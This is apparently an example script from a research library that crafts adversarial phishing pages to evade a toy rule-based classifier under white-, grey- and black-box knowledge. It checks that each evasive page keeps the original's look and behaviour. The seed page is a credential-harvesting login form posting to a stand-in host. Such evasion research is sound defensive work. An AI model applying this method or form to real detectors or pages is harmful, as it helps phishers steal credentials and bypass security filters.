"""Craft adversarial pages under three knowledge levels.

The same seed page is attacked with full model knowledge (white), rule
feature sets only (grey), and score queries only (black).  Every mutation
preserves the page's visible projection and its interactive behavior, which
the preservation check verifies at the end.
"""

from phishevade import (
    ScoreOracle,
    black_knowledge,
    grey_knowledge,
    parse_html,
    preservation_check,
    run_attack,
    serialize,
    white_knowledge,
)
from phishevade.classifier import ClassificationRule, Classifier
from phishevade.mutation import ElementSpec

SEED = """
<html><head><title>Account Services</title>
<style>input[type=password]{width:120px}</style></head>
<body>
<p>urgent signin required to verify your account</p>
<form action="http://collect.credsink.invalid/grab">
<input type="text" name="user"><input type="password" name="pass">
</form>
<a href="https://mail.example.com/inbox">webmail</a>
</body></html>
"""


def rule(rule_id, feats, weight):
    return ClassificationRule(rule_id, frozenset(feats), weight)


model = Classifier(bias=-0.5, rules=(
    rule("p1", {"PageTerm=urgent"}, 1.2),
    rule("p2", {"PageHasPswdInputs"}, 1.1),
    rule("p3", {"PageTerm=verify", "PageTerm=account"}, 0.8),
    rule("p4", {"PageActionOtherDomainFreq"}, 1.0),
    rule("n1", {"PageTerm=privacy"}, -0.8),
    rule("n2", {"PageHasCheckInputs"}, -0.5),
))

pool = [ElementSpec("div", (), "privacy"),
        ElementSpec("input", (("type", "checkbox"),)),
        ElementSpec("p", (), "volunteers welcome")]

seed = parse_html(SEED, "http://account-services.badhost.test/login")

for level in ("white", "grey", "black"):
    oracle = ScoreOracle(model)
    if level == "white":
        knowledge = white_knowledge(model, oracle)
    elif level == "grey":
        knowledge = grey_knowledge([(r.id, r.features) for r in model.rules],
                                   oracle)
    else:
        knowledge = black_knowledge(oracle)
    result = run_attack(knowledge, seed, pool=pool, rng_seed=7)
    print(f"== {level}-box ==")
    for step in result.trajectory:
        print(f"  step {step.step:2d}  score {step.score:.4f}  {step.op}")
    print(f"  {result.status} | features mutated {result.mutated_features}, "
          f"rules touched {result.mutated_rules}, queries {result.queries}, "
          f"additions {result.additions}")
    report = preservation_check(seed, result.final_page)
    print(f"  preservation: projection_equal={report.projection_equal} "
          f"functional_equal={report.functional_equal}")
    print()

print("final white-box page for inspection:")
oracle = ScoreOracle(model)
final = run_attack(white_knowledge(model, oracle), seed).final_page
print(serialize(final))
